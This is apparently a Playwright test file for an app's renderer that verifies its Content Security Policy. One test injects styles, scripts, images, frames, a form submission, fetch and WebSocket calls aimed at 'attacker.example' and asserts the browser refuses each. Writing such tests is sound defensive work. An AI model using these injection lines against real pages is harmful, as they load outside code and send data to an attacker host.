import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { root } from '../scripts/project.mjs';
import { expect, test } from './fixtures.ts';

const built = join(root, 'dist', 'renderer');

/** The directives by which the page refuses what the script tries. */
const directives = [
  'base-uri',
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'object-src',
  'script-src',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
];

test.describe('a script that got into the page', () => {
  // The browser logs an error for everything that it refuses.
  test.use({ expectedComplaints: [/Content Security Policy|Failed to (load|fetch)/] });

  test('can write no styles, run no code, load and send nothing', async ({ page }) => {
    await expect(page.getByRole('navigation').first()).toBeVisible();
    const refused = await page.evaluate(async (count) => {
      const refusals = new Set<string>();
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refusals.add(effectiveDirective),
      );
      const append = (name: string, properties: object) => {
        const element = Object.assign(document.createElement(name), properties);
        document.body.append(element);
        return element;
      };
      append('style', { textContent: '#root { display: none }' });
      append('script', { textContent: 'globalThis.wasRun = true' });
      append('script', { src: 'https://attacker.example/a.js' });
      append('link', { rel: 'stylesheet', href: 'https://attacker.example/a.css' });
      append('img', { src: 'https://attacker.example/a.png' });
      append('iframe', { src: 'https://attacker.example/' });
      append('object', { data: 'https://attacker.example/a.swf' });
      append('base', { href: 'https://attacker.example/' });
      append('div', { innerHTML: '<p id="styled" style="color: rgb(1, 2, 3)">x</p>' });
      (append('form', { action: 'https://attacker.example/' }) as HTMLFormElement).submit();
      await fetch('https://attacker.example/').catch(() => undefined);
      try {
        new WebSocket('wss://attacker.example/');
      } catch {
        // Some browsers throw, others fire an event; the directive is reported in both cases.
      }
      // In a timer, because code that a test evaluates directly may evaluate more.
      const evaluated = await new Promise<string>((done) => {
        setTimeout(() => {
          try {
            done(String(new Function('return "run"')()));
          } catch {
            done('refused');
          }
        });
      });
      // Reported later: until all of them are, and then a while for one too many.
      for (let tries = 0; refusals.size < count && tries < 600; tries += 1)
        await new Promise((done) => setTimeout(done, 100));
      await new Promise((done) => setTimeout(done, 500));
      const styled = document.getElementById('styled');
      return {
        directives: [...refusals].sort(),
        evaluated,
        wasRun: 'wasRun' in globalThis,
        isShown: getComputedStyle(document.getElementById('root') as HTMLElement).display !== 'none',
        color: styled ? getComputedStyle(styled).color : '',
        base: document.baseURI.includes('attacker'),
      };
    }, directives.length);
    expect(refused).toMatchObject({ evaluated: 'refused', wasRun: false, isShown: true, base: false });
    expect(refused.color).not.toBe('rgb(1, 2, 3)');
    expect(refused.directives).toEqual(directives);
  });
});

test('styles are let in by a nonce that markup cannot read', async ({ page }) => {
  await expect(page.getByRole('navigation').first()).toBeVisible();
  const styles = await page.evaluate(() => {
    const meta = document.querySelector<HTMLMetaElement>('meta[property="csp-nonce"]');
    const element = document.createElement('style');
    element.nonce = meta?.nonce ?? '';
    element.textContent = '#root { outline-width: 0 }';
    document.head.append(element);
    return {
      nonce: meta?.nonce.length ?? 0,
      readable: meta?.getAttribute('nonce'),
      // An element that was refused has no sheet.
      written: [...document.querySelectorAll('style')].map(({ sheet }) => sheet !== null),
    };
  });
  expect(styles.nonce).toBeGreaterThan(20);
  expect(styles.readable).toBe('');
  expect(new Set(styles.written)).toEqual(new Set([true]));
});

test('the built page names no other place and has nothing inline', async () => {
  const html = await readFile(join(built, 'index.html'), 'utf8');
  expect(html).not.toMatch(/<style|\sstyle=|\son\w+=/);
  for (const [, attributes, content] of html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)) {
    expect(attributes).toMatch(/src="\.\/assets\//);
    expect(content).toBe('');
  }
  for (const [, address] of html.matchAll(/(?:src|href)="([^"]*)"/g)) expect(address).toMatch(/^\.\//);
  const sheets = (await readdir(join(built, 'assets'))).filter((name) => name.endsWith('.css'));
  expect(sheets).not.toEqual([]);
  for (const name of sheets) {
    const text = await readFile(join(built, 'assets', name), 'utf8');
    // A picture that is written into the sheet may name the namespace of SVG, which is never fetched.
    const addresses = [...text.matchAll(/url\(\s*["']?([^)"']*)/g)].map(([, address = '']) => address);
    expect(addresses.filter((address) => /^(https?:)?\/\//.test(address))).toEqual([]);
    expect(text).not.toMatch(/@import\s+["']?(https?:)?\/\//);
  }
});
